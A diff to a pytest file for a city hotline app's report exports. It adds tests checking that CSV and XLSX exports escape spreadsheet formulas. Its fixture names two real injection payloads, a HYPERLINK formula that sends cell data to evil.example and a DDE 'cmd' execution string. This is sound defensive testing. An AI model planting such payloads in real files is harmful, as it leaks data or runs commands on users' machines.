@@ -10,11 +10,12 @@ from datetime import datetime
 import pytest
 from openpyxl import load_workbook
 
-from hotline.services import reports
+from hotline.extensions import db
+from hotline.services import report_figures, reports
 from hotline.web import report_exports, report_views
 from tests import factories
 from tests.web.conftest import text_of
-from tests.web.report_data import END, RANGE, START, Data, make_data
+from tests.web.report_data import END, PREVIOUS, RANGE, START, Data, H, M, make, make_data
 
 
 @pytest.fixture
@@ -178,3 +179,59 @@ def test_export_bad_input(login, city):
         assert response.status_code == 400, url
         assert message in text_of(response), url
     assert client.get("/reports/response-times.pdf").status_code == 404
+
+
+# -- no cell is a formula (OWASP CSV injection) --------------------------------------------------
+
+FORMULA = '=HYPERLINK("http://evil.example/?leak="&A2&B2;"Click")'
+
+
+@pytest.fixture
+def formula_names(city, data):
+    """A department and a category named with a formula, as a careless import would name them."""
+    city.roads.name = FORMULA
+    city.potholes.name = "@SUM(1+1)*cmd|' /C calc'!A0"
+    db.session.commit()
+
+
+def every_cell(workbook):
+    return [cell for sheet in workbook.worksheets for row in sheet.iter_rows() for cell in row]
+
+
+@pytest.mark.parametrize(
+    "path",
+    [
+        f"/reports/response-times.{{fmt}}?{RANGE}",
+        f"/reports/response-times.{{fmt}}?{RANGE}&table=trend&trend=day",
+        f"/reports/response-times.{{fmt}}?{RANGE}&table=ranking",
+        f"/reports/tickets.{{fmt}}?{RANGE}&group_by=department&key=roads&measure=received",
+    ],
+)
+def test_no_export_carries_a_formula(login, city, formula_names, path):
+    client = login(city.supervisor)
+    lines = read_csv(client.get(path.format(fmt="csv")))
+    cells = [cell for line in lines for cell in line]
+    assert "'" + FORMULA in cells
+    assert not [cell for cell in cells if cell.startswith(("=", "+", "@", "\t", "\r"))]
+    workbook, _sheet = read_xlsx(client.get(path.format(fmt="xlsx")))
+    cells = every_cell(workbook)
+    assert not [cell.coordinate for cell in cells if cell.data_type == "f"]
+    assert "'" + FORMULA in [cell.value for cell in cells]
+    assert all(cell.data_type == "s" for cell in cells if isinstance(cell.value, str))
+
+
+def test_a_negative_number_stays_a_number(login, city, formula_names):
+    # The ranking's last column is a change in percentage points: roads did better the week before.
+    for _ in range(2):
+        make(city.operator, PREVIOUS, accepted=10 * M, resolved=2 * H)
+    report_figures.refresh_dirty()
+    client = login(city.supervisor)
+    query = f"{RANGE}&table=ranking"
+    header, *lines = read_csv(client.get(f"/reports/response-times.csv?{query}"))
+    changes = [float(line[-1]) for line in lines if line[-1]]
+    assert any(change < 0 for change in changes), changes
+    assert not [line[-1] for line in lines if line[-1].startswith("'")]
+    _workbook, sheet = read_xlsx(client.get(f"/reports/response-times.xlsx?{query}"))
+    last = [row[-1] for row in sheet.iter_rows(min_row=2)]
+    negative = [cell for cell in last if isinstance(cell.value, float) and cell.value < 0]
+    assert negative and all(cell.data_type == "n" for cell in negative)
